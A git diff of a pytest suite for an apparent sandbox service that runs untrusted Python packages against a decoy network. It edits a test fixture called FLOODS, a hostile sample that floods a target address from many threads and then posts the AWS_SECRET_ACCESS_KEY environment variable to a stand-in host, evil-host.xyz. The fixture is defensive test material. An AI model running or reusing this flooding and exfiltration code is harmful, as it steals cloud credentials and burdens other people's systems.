@@ -10,7 +10,6 @@ from typing import Any
 import pytest
 from conftest import Serve, Service, Snakehook
 from hostile import (
-    ONCE,
     PROBES,
     add_probe,
     assert_nothing_is_left,
@@ -169,11 +168,9 @@ def test_what_the_decoy_internet_takes_reaches_nobody_else(
 
 
 # Each in a thread of its own, all at once, for a few seconds; then what matters.
-FLOODS = (
-    ONCE
-    + """
+FLOODS = """
 import os, socket, ssl, threading, time, urllib.request
-END = time.monotonic() + 4
+END = time.monotonic() + 3
 TARGET = ("45.33.32.156", 80)
 COUNTS = {}
 def flood(work):
@@ -236,7 +233,6 @@ for thread in threading.enumerate():
 body = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
 print(urllib.request.urlopen("http://last.evil-host.xyz/", body, timeout=20).status, COUNTS)
 """
-)
 MAX_WATCH_BYTES = 300 << 20
 
 
@@ -256,19 +252,19 @@ def test_floods_of_the_decoy_internet_cost_no_neighbour_and_no_memory(
 ) -> None:
     index.add_wheel("floods", "1.0", {"floods.py": FLOODS})
     # It is at work while the floods come.
-    calm_source = ONCE + "import select\nselect.select([], [], [], 5)\nprint('calm')\n"
+    calm_source = "import select\nselect.select([], [], [], 6)\nprint('calm')\n"
     index.add_wheel("calm", "1.0", {"calm.py": calm_source})
     peak = 0
     with serve(MAX_CONCURRENCY=2, RUN_TIMEOUT_SEC=30) as service:
-        floods = service.accept("floods", mode="import")
-        calm = service.accept("calm", mode="import")
+        floods = service.accept("floods", mode="execute_module", module_name="floods")
+        calm = service.accept("calm", mode="execute_module", module_name="calm")
 
         def both_are_finished() -> bool:
             nonlocal peak
             peak = max(peak, peak_bytes(service))
             return all(service.report(run)["status"] == "finished" for run in (floods, calm))
 
-        wait_for(both_are_finished, 90, every_sec=0.1)
+        wait_for(both_are_finished, 150, every_sec=0.1)
         neighbour, report = service.report(calm), service.report(floods)
     assert (neighbour["outcome"], neighbour["verdict"]) == ("ok", "clean"), neighbour["reason"]
     phase = own_phase(report)
